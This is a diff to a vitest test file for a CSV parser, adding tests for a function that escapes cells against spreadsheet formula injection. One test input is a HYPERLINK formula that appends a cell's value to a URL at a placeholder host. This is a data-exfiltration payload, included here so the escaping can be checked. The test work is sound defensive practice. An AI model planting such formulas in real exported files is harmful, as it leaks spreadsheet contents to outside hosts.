@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
-import { CsvParser, parseCsv } from '../src/model/csv.js';
+import { CsvParser, csvCellSafe, parseCsv } from '../src/model/csv.js';
 import { isSelectivityError } from '../src/errors.js';
 
 /** Feeds `text` cut at the given positions; returns rows and their start lines. */
@@ -191,5 +191,17 @@ describe('CsvParser', () => {
     expect(Date.now() - t0).toBeLessThan(2000);
     expect(rows).toHaveLength(1);
     expect(rows[0][1]).toBe('x'.repeat(1_000_000) + '"' + '\n'.repeat(1000));
+  });
+});
+
+describe('csvCellSafe', () => {
+  it('quotes as RFC 4180 does, and makes a cell a spreadsheet would read as a formula text (a leading \')', () => {
+    expect(csvCellSafe('=HYPERLINK("http://x.example/?"&B2,"open")')).toBe(`"'=HYPERLINK(""http://x.example/?""&B2,""open"")"`);
+    for (const f of ['+1+2', '-A1', '@SUM(A1)', '\tx', '\rx']) expect(csvCellSafe(f).replace(/^"/, '').startsWith(`'`), JSON.stringify(f)).toBe(true);
+    // numbers stay numbers; ordinary text is untouched
+    for (const n of ['-1.5', '+2', '-0.000123', '1e-5', '-3E+2', '42']) expect(csvCellSafe(n)).toBe(n);
+    expect(csvCellSafe('D0000003')).toBe('D0000003');
+    expect(csvCellSafe('a,b')).toBe('"a,b"');
+    expect(csvCellSafe('PROFILE:SPS-MEAT-CN')).toBe('PROFILE:SPS-MEAT-CN');
   });
 });
